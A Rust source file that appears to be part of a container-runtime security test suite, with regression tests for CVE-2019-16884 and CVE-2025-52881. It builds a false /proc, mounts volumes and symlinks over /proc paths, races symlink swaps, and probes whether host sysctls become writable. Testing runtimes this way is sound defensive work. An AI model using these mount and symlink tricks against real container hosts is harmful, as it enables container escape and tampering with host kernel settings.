//! Volumes at and below `/proc`: CVE-2019-16884 (a volume instead of `/proc`, by
//! the image or the mounts, so that labels and masks go nowhere), CVE-2025-52881
//! (the runtime's own writes to `/proc` redirected through a false one).

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::json;

use crate::host::{Host, KNOB};
use crate::race::Neighbour;
use crate::round::{Attack, Outcome, once};
use crate::support::Case;
use crate::targets::{bind, mounts};

/// What looks like a `/proc` to a runtime that writes to files by name.
fn false_proc(at: &Path) {
    for dir in [
        "self/attr/apparmor",
        "thread-self/attr",
        "sys/kernel",
        "sys/net/ipv4",
        "1",
    ] {
        fs::create_dir_all(at.join(dir)).unwrap();
    }
    for file in [
        "self/attr/exec",
        "self/attr/current",
        "self/status",
        "version",
        "kcore",
    ] {
        fs::write(at.join(file), "false").unwrap();
    }
    // A write of ours to any of these would reach the host.
    for knob in [
        "sys/kernel/shmmax",
        "sys/kernel/domainname",
        "sys/net/ipv4/ip_default_ttl",
    ] {
        symlink(KNOB, at.join(knob)).unwrap();
    }
}

/// Tells of mounts that come from the volume, of masks that are not there, and of
/// places that can be written to. `/proc` must be a procfs.
const LOOK: &str = "awk '$5 ~ \"^/proc\" && $4 ~ \"false\" {print \"BREACH mounted\", $4, $5}' \
    /proc/self/mountinfo; \
    awk '$2 == \"/proc\" && $3 == \"proc\" {found = 1} END {if (!found) print \"BREACH no procfs\"}' \
    /proc/self/mounts; \
    [ -n \"$(cat /proc/version)\" ] && echo BREACH unmasked; \
    touch /proc/sys/kernel/x && echo BREACH writable; \
    for f in /proc/sys/kernel/shmmax; do echo 9 > $f && echo BREACH written $f; done; ";

/// CVE-2019-16884.
pub(crate) struct Volume {
    case: Case,
    neighbour: Neighbour,
    plain: serde_json::Value,
    places: Vec<String>,
    volume: PathBuf,
}

impl Volume {
    pub(crate) fn new(_host: &mut Host) -> Self {
        let script = format!("{LOOK} echo confined");
        let mut case = Case::new(&["sh", "-c", &script]);
        let volume = case.dir.join("volume");
        fs::create_dir_all(volume.join("p/self/attr")).unwrap();
        fs::create_dir_all(volume.join("p/sys/kernel")).unwrap();
        symlink("/proc", volume.join("q")).unwrap();
        false_proc(&case.dir.join("false"));
        // Links of the image's that a mount's destination goes through.
        let image = case.dir.join("image");
        symlink("proc", image.join("relative")).unwrap();
        symlink("/proc", image.join("absolute")).unwrap();
        symlink("/proc/self/attr", image.join("deep")).unwrap();
        symlink("/proc/self/cwd/proc", image.join("magic")).unwrap();
        case.set(
            "/linux/maskedPaths",
            json!(["/proc/version", "/proc/kcore"]),
        );
        let mut places = Vec::new();
        for top in [
            "/proc",
            "/relative",
            "/absolute",
            "/magic",
            "/tmp/../proc",
            "/vol/p",
        ] {
            for below in [
                "",
                "/self/attr",
                "/self",
                "/sys",
                "/sys/kernel",
                "/1",
                "/thread-self/attr",
            ] {
                places.push(format!("{top}{below}"));
            }
        }
        places.push("/deep".to_owned());
        let neighbour = Neighbour::swapping(&volume.join("p"), &volume.join("q"));
        Self {
            plain: case.spec.clone(),
            case,
            neighbour,
            places,
            volume,
        }
    }
}

impl Attack for Volume {
    fn attempt(&mut self, n: u32) -> Outcome {
        let n = n as usize;
        let place = &self.places[n % self.places.len()];
        let from = match n % 3 {
            // The part of the false /proc that belongs there, or all of it.
            0 => self
                .case
                .dir
                .join("false")
                .join(place.split('/').skip(2).collect::<PathBuf>()),
            _ => self.case.dir.join("false"),
        };
        let from = if from.exists() {
            from
        } else {
            self.case.dir.join("false")
        };
        self.case.spec = self.plain.clone();
        let (volume, at) = (bind(&self.volume, "/vol"), place.clone());
        let list = mounts(&mut self.case);
        let one = match n / 2 % 3 {
            0 => json!({"destination": at, "type": "tmpfs", "source": "tmpfs"}),
            _ => bind(&from, &at),
        };
        if n.is_multiple_of(2) {
            list.extend([volume, one]);
        } else {
            list.splice(0..0, [volume, one]);
        }
        once(&mut self.case)
    }

    /// What the look inside must find: a write that goes to the host's knob.
    fn control(&mut self, _host: &Host) -> Option<Outcome> {
        fs::write(self.case.dir.join("false/sys/kernel/shmmax"), "77").unwrap();
        None
    }

    fn neighbour(&self) -> Option<&Neighbour> {
        Some(&self.neighbour)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["refused", "confined"]
    }
}

/// CVE-2025-52881. Sysctls and labels are written by the runtime after the mounts;
/// a volume below `/proc`, or a `/proc` that lies in a shared volume, would catch
/// the writes and send them elsewhere.
pub(crate) struct Redirect {
    case: Case,
    neighbour: Neighbour,
    plain: serde_json::Value,
    volume: PathBuf,
}

impl Redirect {
    pub(crate) fn new(_host: &mut Host) -> Self {
        let script = "[ \"$(cat /proc/sys/kernel/shmmax)\" = 7654321 ] || echo BREACH shmmax lost; \
            [ \"$(cat /proc/sys/net/ipv4/ip_default_ttl)\" = 77 ] || echo BREACH ttl lost; \
            awk '$5 ~ \"^/proc\" && $4 ~ \"false\" {print \"BREACH mounted\", $4, $5}' \
            /proc/self/mountinfo; echo written where they belong";
        let mut case = Case::new(&["sh", "-c", script]);
        case.set(
            "/linux/sysctl",
            json!({"kernel.shmmax": "7654321", "net.ipv4.ip_default_ttl": "77"}),
        );
        let volume = case.dir.join("volume");
        fs::create_dir_all(volume.join("p/sys/kernel")).unwrap();
        fs::create_dir_all(volume.join("p/sys/net/ipv4")).unwrap();
        fs::create_dir_all(volume.join("p/self/attr")).unwrap();
        fs::create_dir_all(volume.join("proc")).unwrap();
        symlink("/proc", volume.join("q")).unwrap();
        false_proc(&case.dir.join("false"));
        let neighbour = Neighbour::swapping(&volume.join("p"), &volume.join("q"));
        Self {
            plain: case.spec.clone(),
            case,
            neighbour,
            volume,
        }
    }
}

impl Attack for Redirect {
    fn attempt(&mut self, n: u32) -> Outcome {
        self.case.spec = self.plain.clone();
        let at = |sub: &str| self.case.dir.join("false").join(sub);
        let mut all = vec![bind(&self.volume, "/vol")];
        match n % 4 {
            0 => all.push(bind(&at("sys/kernel"), "/vol/p/sys/kernel")),
            1 => all.push(bind(&at("sys/net/ipv4"), "/vol/p/sys/net/ipv4")),
            2 => all.push(bind(&at("self/attr"), "/vol/p/self/attr")),
            // The false /proc is what the image has at /proc, by a link.
            _ => {}
        }
        let label = json!("reprise-escape-test");
        // Without the security module the label is refused, and that is all right.
        if n % 8 >= 6 {
            self.case.set("/process/apparmorProfile", label);
        }
        mounts(&mut self.case).extend(all);
        let proc = self.case.dir.join("image/proc");
        if n % 4 == 3 {
            fs::remove_dir(&proc).unwrap();
            symlink("/vol/p", &proc).unwrap();
            let list = mounts(&mut self.case);
            let volume = list.pop().unwrap();
            list.insert(0, volume);
        }
        let outcome = once(&mut self.case);
        if n % 4 == 3 {
            fs::remove_file(&proc).unwrap();
            fs::create_dir(&proc).unwrap();
        }
        outcome
    }

    /// Where a write to the false sysctl goes.
    fn control(&mut self, _host: &Host) -> Option<Outcome> {
        fs::write(
            self.case.dir.join("false/sys/net/ipv4/ip_default_ttl"),
            "77",
        )
        .unwrap();
        None
    }

    fn neighbour(&self) -> Option<&Neighbour> {
        Some(&self.neighbour)
    }

    fn must_see(&self) -> &'static [&'static str] {
        &["refused", "written where they belong"]
    }
}
